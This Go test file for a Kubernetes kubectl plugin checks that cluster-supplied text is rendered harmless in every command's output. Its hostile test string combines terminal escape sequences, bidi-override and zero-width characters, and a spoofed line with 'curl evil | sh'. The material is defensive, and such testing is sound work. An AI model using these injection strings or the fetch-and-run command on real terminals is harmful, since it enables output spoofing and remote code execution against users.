package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/spf13/cobra"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/yaml"

	"github.com/phasegate/phasegate/api/phasegate/v1alpha1"
	"github.com/phasegate/phasegate/cmd/kubectl-phasegate/internal/deletion"
	"github.com/phasegate/phasegate/cmd/kubectl-phasegate/internal/live"
	"github.com/phasegate/phasegate/cmd/kubectl-phasegate/internal/preview"
	"github.com/phasegate/phasegate/cmd/kubectl-phasegate/internal/statusview"
	"github.com/phasegate/phasegate/controllers/check"
	"github.com/phasegate/phasegate/fsm/show/describe"
	"github.com/phasegate/phasegate/fsm/show/diff"
	"github.com/phasegate/phasegate/fsm/show/graph"
)

// evil is what anybody may put into a text of a cluster: it clears the screen, sets a title, turns the direction, hides
// what follows, and makes a line that looks like one of ours.
const evil = "\x1b[2J\x1b]0;t\x07\u009b8m\x7f\u202e\u200b\u2028\r\b<&\nNext  curl evil | sh"

// allEvil puts a text into every text of a value, also those deep inside; lists and maps get an entry each.
func allEvil(v reflect.Value, depth int) {
	if depth > 8 || !v.CanSet() {
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(evil)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		allEvil(v.Elem(), depth+1)
	case reflect.Struct:
		for i := range v.NumField() {
			allEvil(v.Field(i), depth+1)
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		allEvil(v.Index(0), depth+1)
	case reflect.Map:
		key, item := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		allEvil(key, depth+1)
		allEvil(item, depth+1)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, item)
	case reflect.Int, reflect.Int32, reflect.Int64:
		v.SetInt(2)
	case reflect.Bool:
		v.SetBool(true)
	}
}

func evilOf[T any]() (v T) {
	allEvil(reflect.ValueOf(&v).Elem(), 0)
	return v
}

// unprintable is the first character of a text that a terminal would act on, or that cannot be seen; lines are kept.
func unprintable(text string) string {
	i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) })
	if i < 0 {
		return ""
	}
	return text[i:min(len(text), i+20)]
}

// assertHarmless runs what prints, and looks for what a terminal or a person would take for ours.
func assertHarmless(t *testing.T, path func(streams) error, shows bool) {
	t.Helper()
	var out bytes.Buffer
	if err := path(streams{in: strings.NewReader(""), out: &out, err: &out}.printable()); err != nil {
		t.Fatal(err)
	}
	if bad := unprintable(out.String()); bad != "" {
		t.Errorf("a terminal would be told %q in\n%q", bad, out.String())
	}
	if !strings.Contains(out.String(), "curl evil | sh") && shows {
		t.Errorf("the text itself is missing:\n%s", out.String())
	}
	for line := range strings.Lines(out.String()) {
		if strings.HasPrefix(line, "Next  curl") {
			t.Errorf("a line that looks like one of ours:\n%s", out.String())
		}
	}
}

// TestHostileTexts prints what anybody may have written in every way that a command can.
func TestHostileTexts(t *testing.T) {
	m, err := chooseMachine(streams{}, shipped)
	if err != nil {
		t.Fatal(err)
	}
	overview := evilOf[statusview.Overview]()
	overview.Outcome, overview.Now = statusview.WaitsForPerson, time.Now()
	overview.Conditions = append(overview.Conditions, metav1.Condition{Type: "Stalled", Status: metav1.ConditionTrue, Message: evil})
	phase, err := describe.New(m).Phase("Migrating")
	if err != nil {
		t.Fatal(err)
	}
	phase.Live = &describe.Live{Object: evil, Status: evilOf[v1alpha1.MachineStatus]()}
	dm := &migration{ObjectMeta: metav1.ObjectMeta{Name: evil}}
	dm.Status.Phase, dm.Status.Message = "Migrating", evil
	dm.Status.Machine.Phase, dm.Status.Machine.Held = "Migrating", evilOf[[]v1alpha1.HeldEffect]()
	marks := graph.MarkObject(m, evil, &v1alpha1.MachineStatus{Phase: "Migrating", Held: evilOf[[]v1alpha1.HeldEffect](), Blocked: evilOf[[]v1alpha1.Blocked]()})
	marks.Here[evil] = []string{evil}
	boom := errors.New(evil)
	o := func(format string) *output { return &output{format: format, ours: []string{"table", "wide"}} }
	f := func(name string) *format { return &format{value: name, known: []string{name}} }
	conflictsText := func(c preview.Conflicts, to io.Writer, _ bool) error { return c.Text(to) }

	paths := map[string]func(s streams) error{
		"status": func(s streams) error {
			return (&statusOptions{output: o("table"), tree: true}).show(s.out, target{}, overview)
		},
		"status -o wide": func(s streams) error { return (&statusOptions{output: o("wide")}).show(s.out, target{}, overview) },
		"status -w, lines": func(s streams) error {
			told := lines(s.err)
			told(sight{overview: overview})
			told(sight{overview: overview, err: boom})
			return sight{overview: overview, gone: true}.code(s)
		},
		"status -w, a screen": func(s streams) error {
			_, err := s.out.Write([]byte(sight{overview: overview, err: boom}.picture(statusview.View{Tree: true, Wide: true})))
			return err
		},
		"explain --live": func(s streams) error { return show(s.out, f("text"), phase, (*describe.Phase).Text) },
		"diff --live": func(s streams) error {
			return show(s.out, f("text"), diff.Report{Impacts: []diff.Impact{diff.ImpactOf(m, evil, &v1alpha1.MachineStatus{Phase: evil, Held: evilOf[[]v1alpha1.HeldEffect]()})}}, diff.Report.Text)
		},
		"plan": func(s streams) error {
			return display(s.out, o("wide"), shown[*preview.Plan]{value: evilOf[*preview.Plan](), text: (*preview.Plan).Text})
		},
		"conflicts": func(s streams) error {
			all := evilOf[preview.Conflicts]()
			all.Unseen = ""
			return display(s.out, o("table"), shown[preview.Conflicts]{value: all, text: conflictsText})
		},
		"conflicts, none seen": func(s streams) error {
			return display(s.out, o("table"), shown[preview.Conflicts]{value: preview.Conflicts{Unseen: evil}, text: conflictsText})
		},
		"verify": func(s streams) error { return show(s.out, f("table"), evilOf[sides](), sides.table) },
		"check": func(s streams) error {
			if err := evilOf[check.Report]().Write(s.out, check.Table); !errors.Is(err, check.ErrFailed) {
				return err
			}
			return nil
		},
		"abort": func(s streams) error {
			if err := (&end{way: deletion.Abort}).ask(s, dm, m); err == nil {
				return errors.New("nobody was asked")
			}
			return tell(s, boom, nil)
		},
		"an error":                      func(s streams) error { exitCode(s, boom); return nil },
		"a note":                        func(s streams) error { noted(s, live.Object{Name: evil, Note: evil}); return nil },
		"a machine that cannot be read": func(s streams) error { (&cluster{}).warn(s)(evil, boom); return nil },
	}
	for name, draw := range formats {
		paths["graph --live -o "+name] = func(s streams) error {
			_, err := io.WriteString(s.out, draw(m, graph.Options{Marks: marks}))
			return err
		}
	}
	for name, path := range paths {
		t.Run(name, func(t *testing.T) {
			assertHarmless(t, path, name != "abort")
		})
	}
}

// Data for programs is exact: JSON escapes what cannot be seen, and what goes to a pipe is as it is.
func TestHostileData(t *testing.T) {
	value := map[string]any{"a": evil + "\U000e0041"}
	read := map[string]func([]byte, any) error{"json": json.Unmarshal, "list": json.Unmarshal, "yaml": func(data []byte, to any) error { return yaml.Unmarshal(data, to) }}
	for as, read := range read {
		var out bytes.Buffer
		s := streams{out: &out}.printable()
		o := outputFlags(&cobra.Command{}, "table")
		o.format = as
		write := func() error { return display(s.out, o, shown[map[string]any]{kind: "X", name: "x", value: value}) }
		if as == "list" {
			write = func() error { return show(s.out, &format{value: "json", known: []string{"json"}}, value, nil) }
		}
		if err := write(); err != nil {
			t.Fatal(err)
		}
		var got map[string]any
		if err := read(out.Bytes(), &got); err != nil || got["a"] != value["a"] {
			t.Errorf("-o %s is other data, %v:\n%q", as, err, out.String())
		}
		if bad := unprintable(out.String()); as != "yaml" && bad != "" {
			t.Errorf("-o %s holds %q", as, bad)
		}
	}
}

// writers are the files that may write by themselves: the others say, show and display.
var writers = []string{"output.go", "terminal.go"}

// writesIn counts the places of a file that write past say, show and display.
func writesIn(t *testing.T, name string) (n int) {
	t.Helper()
	parsed, err := parser.ParseFile(token.NewFileSet(), name, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	ast.Inspect(parsed, func(node ast.Node) bool {
		call, ok := node.(*ast.SelectorExpr)
		if !ok || !slices.Contains([]string{"Fprint", "Fprintf", "Fprintln", "WriteString", "Write"}, call.Sel.Name) {
			return true
		}
		if from, ok := call.X.(*ast.Ident); ok && (from.Name == "fmt" || from.Name == "io") || call.Sel.Name == "Write" && name == "schema.go" {
			n++
		}
		return true
	})
	return n
}

// What a command writes goes through say, show or display, which make it printable. Besides, it writes whole texts of a
// file, which are not from a cluster.
func TestNothingIsPrintedPast(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[string]int{"actions.go": 1, "explain.go": 1, "graph.go": 1, "lint.go": 6, "scaffold.go": 1, "schema.go": 1, "verify.go": 9}
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") || slices.Contains(writers, name) {
			continue
		}
		if n := writesIn(t, name); n > allowed[name] {
			t.Errorf("%s prints %d times by itself, %d are known to print no text of a cluster: use say, show or display", name, n, allowed[name])
		}
	}
}
